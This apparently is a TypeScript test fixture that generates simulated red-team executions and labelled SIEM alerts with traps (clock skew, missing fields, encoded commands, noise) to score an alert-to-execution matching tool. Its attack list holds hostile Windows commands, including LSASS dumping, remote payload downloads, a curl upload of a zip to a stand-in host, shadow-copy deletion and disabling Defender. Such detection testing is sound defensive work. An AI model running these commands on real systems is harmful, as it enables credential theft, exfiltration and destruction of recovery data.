import { toReady } from '../../../server/missions/alerts/candidates.ts';
import { readHosts, readWords } from '../../../server/missions/alerts/normal.ts';
import { readAlert } from '../../../server/missions/alerts/read.ts';
import type { ReadyRun } from '../../../server/missions/alerts/score.ts';
import { suggest } from '../../../server/missions/alerts/suggest.ts';

// A set of 60 executions and 300 alerts with known answers: what a day of an exercise leaves in a SIEM, with its traps.

const day = Date.parse('2026-09-01T08:00:00Z');
const second = 1000;
const minute = 60 * second;
const hour = 60 * minute;

const attacks: [technique: string, command: string, cleanup: string][] = [
  ['T1033', 'cmd.exe /c whoami /all', ''],
  ['T1082', 'cmd.exe /c systeminfo & reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Disk\\Enum', ''],
  ['T1016', 'ipconfig /all & netsh interface show interface & arp -a', ''],
  ['T1087.001', 'net user & net localgroup "Administrators"', ''],
  [
    'T1003.001',
    'rundll32.exe comsvcs.dll, MiniDump 640 C:\\Temp\\lsass-comsvcs.dmp full',
    'del C:\\Temp\\lsass-comsvcs.dmp',
  ],
  [
    'T1053.005',
    'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "calc.exe"',
    'schtasks /delete /tn "T1053_005_OnLogon" /f',
  ],
  [
    'T1547.001',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v AtomicRun /d notepad-atomic.exe',
    'reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v AtomicRun /f',
  ],
  ['T1070.001', 'wevtutil cl System', ''],
  ['T1105', 'certutil -urlcache -split -f http://10.0.9.9/payload-atomic.bin', 'del payload-atomic.bin'],
  ['T1218.005', 'mshta.exe javascript:atomic_mshta_close()', ''],
  ['T1218.010', 'regsvr32.exe /s /u /i:http://10.0.9.9/RegSvr32.sct scrobj.dll', ''],
  ['T1059.001', 'powershell.exe -NoProfile Invoke-Mimikatz-Atomic -DumpCreds', ''],
  [
    'T1059.003',
    'cmd.exe /c C:\\AtomicRedTeam\\batch_t1059_003.bat',
    'del C:\\AtomicRedTeam\\batch_t1059_003.bat',
  ],
  ['T1136.001', 'net user /add T1136_user Passw0rd-atomic', 'net user /del T1136_user'],
  [
    'T1543.003',
    'sc.exe create AtomicTestService binPath= C:\\AtomicRedTeam\\AtomicService.exe',
    'sc.exe delete AtomicTestService',
  ],
  ['T1490', 'vssadmin.exe delete shadows /all /quiet', ''],
  [
    'T1562.001',
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'Set-MpPreference -DisableRealtimeMonitoring $false',
  ],
  ['T1021.002', 'net use \\\\dc01\\C$ P@ssw0rd1 /u:corp\\atomic-share', 'net use \\\\dc01\\C$ /delete'],
  [
    'T1048.003',
    'curl -F data=@C:\\Temp\\exfil-atomic.zip http://10.0.9.9/upload',
    'del C:\\Temp\\exfil-atomic.zip',
  ],
  ['T1569.002', 'psexec.exe \\\\dc01 -i -s calc-atomic.exe', ''],
];

export type Execution = ReadyRun & { host: string; command: string; cleanupCommand: string; rule: string };
export const executions: Execution[] = [];

function execute(attack: number, host: string, at: number, run = 1, address?: string): void {
  const [technique, command, cleanupCommand] = attacks[attack] as [string, string, string];
  const { names } = readHosts([host]);
  executions.push({
    test_id: `${host}/${attack}`,
    run,
    start: at,
    end: at + 8 * second,
    hosts: names,
    addresses: address === undefined ? [] : [address],
    users: ['anna'],
    pid: 1000 + 4 * executions.length,
    techniques: [technique],
    rules: new Set(),
    words: readWords(command),
    cleanup: readWords(cleanupCommand),
    host,
    command,
    cleanupCommand,
    rule: `Suspicious ${technique}`,
  });
}
for (let attack = 0; attack < 20; attack += 1) {
  execute(attack, 'ws01', day + attack * 3 * minute, 1, '10.0.0.5');
  // The same on another host at the same time.
  execute(attack, 'ws02.corp.example', day + attack * 3 * minute + 2 * second);
}
for (let attack = 0; attack < 5; attack += 1) {
  for (const run of [1, 2, 3])
    execute(attack, 'ws03', day + 2 * hour + attack * 10 * minute + run * 30 * second, run);
}
for (let attack = 5; attack < 10; attack += 1) execute(attack, 'ws04', day + 4 * hour + attack * 10 * minute);

export type Labelled = { trap: string; truth: Execution | null; sent: Record<string, unknown> };
export const labelled: Labelled[] = [];
const iso = (time: number) => new Date(time).toISOString();
const on = (host: string) => executions.filter((execution) => execution.host === host);

function add(
  trap: string,
  truth: Execution | null,
  execution: Execution,
  fields: Record<string, unknown> = {},
): void {
  const delay = (1 + (labelled.length % 6)) * second;
  labelled.push({
    trap,
    truth,
    sent: {
      external_id: `a-${labelled.length}`,
      occurred_at: iso(execution.start + delay),
      rule_name: execution.rule,
      hosts: [execution.host.toUpperCase()],
      users: ['CORP\\anna'],
      process: {
        id: 90_000 + labelled.length,
        command_line: execution.command,
        parent: { id: execution.pid },
      },
      techniques: execution.techniques,
      ...fields,
    },
  });
}
const withoutPid = ({ command }: Execution) => ({ process: { id: 0, command_line: command } });

for (const one of on('ws01')) add('plain', one, one, { hosts: ['10.0.0.5'] });
for (const one of on('ws02.corp.example'))
  add('two hosts', one, one, { hosts: ['WS02'], ...withoutPid(one) });
for (const one of on('ws03')) add('repeated, with a process', one, one);
for (const one of on('ws03')) add('repeated, without', one, one, withoutPid(one));
for (const one of on('ws04'))
  add('clock ahead', one, one, { occurred_at: iso(one.start + 7 * minute + second) });
for (const one of on('ws04')) {
  add('clock behind', one, one, { occurred_at: iso(one.start - 7 * minute + second), ...withoutPid(one) });
}
for (const one of on('ws01'))
  add('zone lost', one, one, { occurred_at: iso(one.start + 2 * hour + 2 * second) });
for (const [index, one] of on('ws02.corp.example').entries()) {
  const none = [null, '-', 'n/a', 'None', ''][index % 5];
  add('null entities', one, one, { hosts: [none], users: none, ...withoutPid(one) });
}
for (const one of on('ws01')) add('late ingestion', one, one, { recorded_at: iso(one.start + 6 * hour) });
for (const one of on('ws01').slice(0, 10)) {
  add('alert time only', one, one, { occurred_at: null, recorded_at: iso(one.start + 5 * minute) });
}
for (const one of [...on('ws01').slice(3, 18)])
  add('one rule', one, one, { rule_name: 'Suspicious Child Process', techniques: [] });
for (const one of on('ws02.corp.example').slice(0, 10))
  add('wrong technique', one, one, { techniques: ['T1566.001'] });
for (const one of on('ws02.corp.example').slice(5, 15)) {
  add('parent technique', one, one, { techniques: one.techniques.map((id) => id.slice(0, 5)) });
}
for (const one of on('ws01').slice(11, 16)) {
  const code = Buffer.from(one.command, 'utf16le').toString('base64');
  add('encoded command', one, one, { process: { id: 77, command_line: `powershell -enc ${code}` } });
}
const cleaned = [...on('ws01'), ...on('ws02.corp.example')].filter(
  ({ cleanupCommand }) => cleanupCommand !== '',
);
for (const one of cleaned.slice(0, 10)) {
  const process = { id: 88, command_line: one.cleanupCommand };
  add('cleanup', null, one, {
    occurred_at: iso(one.start + 20 * second),
    process,
    techniques: ['T1070.004'],
  });
}
const [first] = executions as [Execution];
for (let index = 0; index < 80; index += 1) {
  add('noise', null, first, {
    occurred_at: iso(day - hour + index * 6 * minute),
    rule_name: 'Scheduled Task Created',
    techniques: ['T1053.005'],
    process: {
      id: 3000 + index,
      command_line: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
    },
    users: ['SYSTEM'],
  });
}
for (const [index, one] of on('ws01').slice(0, 10).entries()) {
  const occurred_at = iso(one.start + (index % 2 === 0 ? 25 * hour : 10 * second));
  add('administrator', null, one, { occurred_at, users: ['CORP\\admin'], ...withoutPid(one) });
}
for (const one of on('ws02.corp.example').slice(10, 20)) {
  add('other domain', null, one, { hosts: ['ws02.other.example'], ...withoutPid(one) });
}

export const readyAlerts = labelled.map(({ sent }, index) =>
  toReady(String(index), readAlert({ source: 'siem', ...sent }).alert),
);

/** Judges the best suggestion for each alert of the set. */
function judge() {
  return suggest(readyAlerts, executions).map(({ alert_id, suggestions }) => {
    const { trap, truth } = labelled[Number(alert_id)] as Labelled;
    const isTrue = ({ test_id, run }: { test_id: string; run: number }) =>
      truth !== null && test_id === truth.test_id && run === truth.run;
    const [best] = suggestions;
    return {
      trap,
      isOurs: truth !== null,
      isSure: best?.band === 'sure',
      isRight: best !== undefined && isTrue(best),
      isOffered: suggestions.some(isTrue),
    };
  });
}

export type TrapResult = {
  trap: string;
  alerts: number;
  /** Of a test; the others are of none. */
  ours: number;
  sure: number;
  surelyRight: number;
  offered: number;
};

/** The suggestions for the set, by trap. */
export function judgeByTrap(): TrapResult[] {
  return [...Map.groupBy(judge(), ({ trap }) => trap)].map(([trap, some]) => ({
    trap,
    alerts: some.length,
    ours: some.filter(({ isOurs }) => isOurs).length,
    sure: some.filter(({ isSure }) => isSure).length,
    surelyRight: some.filter(({ isSure, isRight }) => isSure && isRight).length,
    offered: some.filter(({ isOffered }) => isOffered).length,
  }));
}

/** Precision of sure suggestions and recall of offered ones, in words; null for none of them. */
export function describeResult({ trap, ours, sure, surelyRight, offered }: TrapResult): string {
  const share = (part: number, of: number) => (of === 0 ? '–' : `${part}/${of}`);
  return `${trap}: sure and right ${share(surelyRight, sure)}, offered ${share(offered, ours)}`;
}
